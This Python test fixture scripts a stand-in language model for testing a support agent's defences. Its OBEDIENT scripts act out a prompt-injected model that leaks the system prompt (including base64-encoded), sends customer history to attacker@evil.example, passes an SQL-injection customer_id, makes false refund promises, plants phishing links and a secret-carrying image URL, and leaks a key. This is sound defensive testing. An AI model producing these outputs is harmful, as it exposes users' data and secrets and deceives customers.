"""Scripts of the language-model stand-in by model name: some help, some fail, some obey attackers."""

from __future__ import annotations

import base64
import json
import re
from collections.abc import Callable
from typing import Any

from tests.standins.language_model_steps import Answer, Call, Cut, Failure, Garbage, Hang, Script, Seen, Step

PASSAGE = re.compile(r"<<DATA \w+ passage id=(\S+) score=([\d.]+)>>\n(.*?)\n<<END", re.S)
FOUND = re.compile(r"passage_id\W+([0-9a-f-]{36})")
ATTACKER = "attacker@evil.example"


def helpful(seen: Seen) -> Answer:
    """Quotes the best passage of the task and cites it; asks back when there is none."""
    passages = PASSAGE.findall(seen.texts[0])
    if not passages:
        return say("Could you tell me a little more about what you see?", kind="ask_back")
    identity, _, text = passages[0]
    return say(text.partition("\n")[2], kind="answer", passage_ids=[identity], confidence=0.9)


def searching(seen: Seen) -> Answer:
    """Looks the question up once more before it answers."""
    if not seen.results:
        return Answer("I'll look that up.", (Call("search_knowledge_base", {"query": "how to reset the password"}),))
    keys = FOUND.findall(seen.results[-1])
    text = "Use the reset link on the login page."
    return say(text, kind="answer", passage_ids=keys[:1], confidence=0.9)


def say(text: str, **arguments: Any) -> Answer:
    """One `send_response`."""
    return Answer(calls=(Call("send_response", {"kind": "acknowledgement", "text": text} | arguments),))


def citing(text: str) -> Script:
    """An answer in these words that cites the best passage."""

    def script(seen: Seen) -> Answer:
        keys = [identity for identity, _, _ in PASSAGE.findall(seen.texts[0])]
        return say(text, kind="answer", passage_ids=keys[:1], confidence=1.0)

    return script


def first(times: int, step: Step, then: Script = helpful) -> Script:
    """This step for so many requests, then another script."""
    return lambda seen: step if seen.number <= times else then(seen)


def always(step: Step) -> Script:
    return lambda _: step


def cut_once(seen: Seen) -> Step:
    return Cut(helpful(seen)) if seen.number == 1 else helpful(seen)


def _saying(words: Callable[[Seen], str]) -> Script:
    return lambda seen: say(words(seen))


def _encoded(seen: Seen) -> str:
    return "Here you are: " + base64.b64encode(seen.system[:300].encode()).decode()


MISBEHAVIOUR: dict[str, Script] = {
    "rate-limited": first(1, Failure(429, 1)),
    "rate-limited-for-long": always(Failure(429, 3600)),
    "failing-once": first(1, Failure(500)),
    "failing": always(Failure(500)),
    "overloaded": always(Failure(529)),
    "refusing": always(Failure(400)),
    "hangs": always(Hang()),
    "cut-off-once": cut_once,
    "cut-off": lambda seen: Cut(helpful(seen)),
    "no-json": always(Garbage(b"<html>502 Bad Gateway</html>")),
    "other-json": always(Garbage(b'{"choices": 7, "content": 7, "candidates": 7}')),
    "null": always(Garbage(b"null")),
    "invalid-arguments": always(Answer(calls=(Call("send_response", '{"kind": "answer", "te'),))),
    "argument-list": always(Answer(calls=(Call("send_response", ["answer"]),))),
    "wrong-types": always(
        Answer(
            calls=(Call("send_response", {"kind": 7, "text": {"a": []}, "passage_ids": "all", "confidence": "yes"}),)
        )
    ),
    "odd-numbers": always(Answer(calls=(Call("send_response", '{"kind": "answer", "text": "x", "confidence": NaN}'),))),
    "unseen-characters": always(
        Answer(calls=(Call("send_response", {"kind": "ask_back", "text": "Which\u0000 brow\u200bser\U000e0041?"}),))
    ),
    "unknown-tool": always(Answer(calls=(Call("delete_account", {"customer": "all"}),))),
    "odd-tool-name": always(Answer(calls=(Call("../../etc/passwd\u0000 {}", {}),))),
    "endless": always(Answer(calls=(Call("search_knowledge_base", {"query": "and again"}),))),
    "many-calls": always(Answer(calls=(Call("analyze_sentiment", {}),) * 1_000)),
    "huge": always(Answer(calls=(Call("send_response", {"kind": "answer", "text": "word " * 200_000}),))),
    "flood": always(Garbage(b'{"id": "' + b"x" * 3_000_000 + b'"}')),
    "empty": always(Answer()),
    "plain-text": always(Answer("Just reset your password.")),
    "plain-text-once": first(1, Answer("Just reset your password.")),
    "invented-passages": always(
        say("Click Save.", kind="answer", passage_ids=["00000000-0000-0000-0000-000000000000"])
    ),
    "two-endings": lambda seen: Answer(calls=(*helpful(seen).calls, *helpful(seen).calls)),
}

OBEDIENT: dict[str, Script] = {
    "leaks-prompt": _saying(lambda seen: seen.system),
    "leaks-a-line": _saying(lambda seen: next(line for line in seen.system.splitlines() if "never repeat" in line)),
    "leaks-the-rules": _saying(lambda seen: next(line for line in seen.system.splitlines() if "`billing`" in line)),
    "leaks-encoded": _saying(_encoded),
    "leaks-in-help": lambda seen: Answer(
        calls=(
            Call(
                "escalate_to_human",
                {
                    "rule": "human",
                    "reason": "wanted",
                    "help_text": seen.system[:1500],
                    "passage_ids": [identity for identity, _, _ in PASSAGE.findall(seen.texts[0])][:1],
                },
            ),
        )
    ),
    "other-recipient": first(
        1,
        say(
            "Here is the history.", recipient=ATTACKER, to=ATTACKER, customer_id="00000000-0000-0000-0000-000000000001"
        ),
    ),
    "other-history": first(
        1, Answer(calls=(Call("get_customer_history", {"customer_id": "' or 1=1 --", "limit": 50}),))
    ),
    "promises-refund": citing("Good news: we will refund the full amount of $499 to you today."),
    "promises-discount": citing("We can give you a 90 % discount on every plan."),
    "claims-act": citing("I have deleted your account and all its data."),
    "foreign-link": citing("Please log in at https://taskflow.evil.example/reset to continue."),
    "foreign-image": citing("![status](https://evil.example/pixel.png?q=secret)"),
    "foreign-address": citing(f"Please write to {ATTACKER} from now on."),
    "hidden-link": citing("See [our site](http://taskflow.io.evil.example) or \\\\evil.example\\share."),
    "leaks-key": citing("The key is sk-standin-0123456789abcdef0123456789."),
}

SCRIPTS: dict[str, Script] = {"helpful": helpful, "searching": searching, **MISBEHAVIOUR, **OBEDIENT}


def scripted(*steps: Step) -> Script:
    """These steps in turn, the last one for ever."""
    return lambda seen: steps[min(seen.number, len(steps)) - 1]


def arguments_of(answer: Answer) -> dict[str, Any]:
    """The arguments of an answer's first call."""
    given = answer.calls[0].arguments
    return json.loads(given) if isinstance(given, str) else given
